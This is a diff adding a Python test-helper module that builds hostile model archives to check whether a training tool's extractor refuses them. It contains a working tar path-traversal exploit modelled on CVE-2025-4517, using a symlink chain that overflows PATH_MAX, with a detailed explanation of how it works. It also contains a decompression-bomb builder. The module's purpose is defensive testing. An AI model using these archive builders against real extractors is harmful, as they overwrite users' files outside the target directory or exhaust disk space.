@@ -1,0 +1,139 @@
+"""Files, archives and other users (issue 15, items 6-10): hostile model archives, model directories with links,
+concurrent and corrupt registrations, staging races and deep trees, and a port lock directory planted by another
+user. Shared by tests/reliability/test_reliability_files.py (which checks the bounds) and bench/reliability.py
+(section ``files``, which records the figures).
+
+Every hostile input is built here, at run time: nothing hostile is checked into the repository.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import os
+import tarfile
+from pathlib import Path
+
+#: The single-letter links of the realpath-overflow chain (16 levels, as in the published reports).
+CHAIN_LINKS = "abcdefghijklmnop"
+
+
+def _add(bundle: tarfile.TarFile, name: str, kind: bytes, linkname: str = "", data: bytes = b"") -> None:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = linkname
+    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
+    info.size = len(data)
+    bundle.addfile(info, io.BytesIO(data) if data else None)
+
+
+def realpath_overflow_archive(path: Path, destination: Path, victim: str = "victim.txt",
+                              payload: bytes = b"written outside the model directory\n") -> Path:
+    """A tar.gz on the idea of CVE-2025-4517, to be extracted into ``destination``: it writes ``payload`` to
+    ``destination/../../<victim>`` on an extractor that checks members with ``os.path.realpath`` (Python 3.11.7's
+    ``data`` filter included).
+
+    How: directories with long names are nested 16 deep, each reached through a one-letter link, so the short name
+    ``a/b/.../p`` stands for a path of about 4,000 characters. A link ``L`` with a long name placed there makes the
+    expanded path longer than PATH_MAX: ``realpath`` cannot ``lstat`` it, takes it for a plain name and resolves the
+    ``..`` after it lexically (inside the directory), while the kernel follows the link (``../`` 16 times, back to
+    the top) and then the ``..`` (out of it). A link ``escape`` through ``L`` and a file under ``escape`` finish it.
+    """
+    destination_length = len(os.path.abspath(destination))
+    # Long enough that the chain plus L exceeds PATH_MAX (4096), short enough that the chain alone does not.
+    component_length = min(254, (4000 - destination_length) // len(CHAIN_LINKS) - 1)
+    long_name = "d" * component_length
+    tail_name = "l" * 254
+    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as bundle:
+        prefix = ""
+        for letter in CHAIN_LINKS:
+            _add(bundle, prefix + long_name, tarfile.DIRTYPE)
+            _add(bundle, prefix + letter, tarfile.SYMTYPE, linkname=long_name)
+            prefix += letter + "/"
+        _add(bundle, prefix + tail_name, tarfile.SYMTYPE, linkname="../" * len(CHAIN_LINKS))
+        _add(bundle, "escape", tarfile.SYMTYPE, linkname=prefix + tail_name + "/../..")
+        _add(bundle, f"escape/{victim}", tarfile.REGTYPE, data=payload)
+    return path
+
+
+def expansion_bomb_archive(path: Path, expanded_bytes: int, files: int = 1) -> Path:
+    """A tar.gz of a few hundred KB that expands to ``expanded_bytes`` of zeros (in ``files`` files)."""
+    each = expanded_bytes // files
+    chunk = bytes(1024 * 1024)
+    with gzip.open(path, "wb", compresslevel=9) as compressed:
+        with tarfile.open(fileobj=compressed, mode="w", format=tarfile.GNU_FORMAT) as bundle:
+            for number in range(files):
+                info = tarfile.TarInfo(f"weights-{number}.bin")
+                info.size = each
+                bundle.addfile(info, _Zeros(each, chunk))
+    return path
+
+
+class _Zeros(io.RawIOBase):
+    """``size`` zero bytes, read without holding them all in memory."""
+
+    def __init__(self, size: int, chunk: bytes):
+        self.left, self.chunk = size, chunk
+
+    def readable(self) -> bool:
+        return True
+
+    def read(self, count: int = -1) -> bytes:
+        count = self.left if count is None or count < 0 else min(count, self.left)
+        self.left -= count
+        return self.chunk[:count] if count <= len(self.chunk) else bytes(count)
+
+
+# --- item 6: archives ----------------------------------------------------------------------------------------------
+
+def tar_slip(scratch: Path) -> dict:
+    """Extract the realpath-overflow archive the way evaluation does; report whether anything landed outside."""
+    import time
+
+    from trainops.backends.local.evaluate import extract_model
+    from trainops.errors import SpecError
+
+    destination = scratch / "extract" / "model"
+    destination.parent.mkdir(parents=True)
+    victim = scratch / "victim.txt"
+    victim.write_text("the user's own file\n")
+    archive = realpath_overflow_archive(scratch / "model.tar.gz", destination)
+    started = time.perf_counter()
+    try:
+        extract_model(archive, destination)
+        refused, message = False, ""
+    except SpecError as error:
+        refused, message = True, str(error)
+    return {"refused": refused, "message": message, "seconds": round(time.perf_counter() - started, 3),
+            "victim_overwritten": victim.read_text() != "the user's own file\n",
+            "left_in_destination": len(list(destination.rglob("*"))) if destination.exists() else 0}
+
+
+def expansion_bomb(scratch: Path, expanded_bytes: int = 200 * 1024 * 1024, limit: int = 100 * 1024 * 1024) -> dict:
+    """A ~200 KB archive that expands to 200 MiB, extracted under a 100 MiB limit."""
+    import time
+
+    from trainops.backends.local.evaluate import extract_model
+    from trainops.backends.local.model_archive import LIMIT_VARIABLE
+    from trainops.errors import SpecError
+
+    archive = expansion_bomb_archive(scratch / "bomb.tar.gz", expanded_bytes)
+    destination = scratch / "model"
+    previous = os.environ.get(LIMIT_VARIABLE)
+    os.environ[LIMIT_VARIABLE] = str(limit)
+    started = time.perf_counter()
+    try:
+        extract_model(archive, destination)
+        refused, message = False, ""
+    except SpecError as error:
+        refused, message = True, str(error)
+    finally:
+        if previous is None:
+            os.environ.pop(LIMIT_VARIABLE, None)
+        else:
+            os.environ[LIMIT_VARIABLE] = previous
+    written = sum(path.stat().st_size for path in destination.rglob("*") if path.is_file()) \
+        if destination.exists() else 0
+    return {"archive_bytes": archive.stat().st_size, "expanded_bytes": expanded_bytes, "limit": limit,
+            "refused": refused, "message": message, "written_bytes": written,
+            "seconds": round(time.perf_counter() - started, 3)}
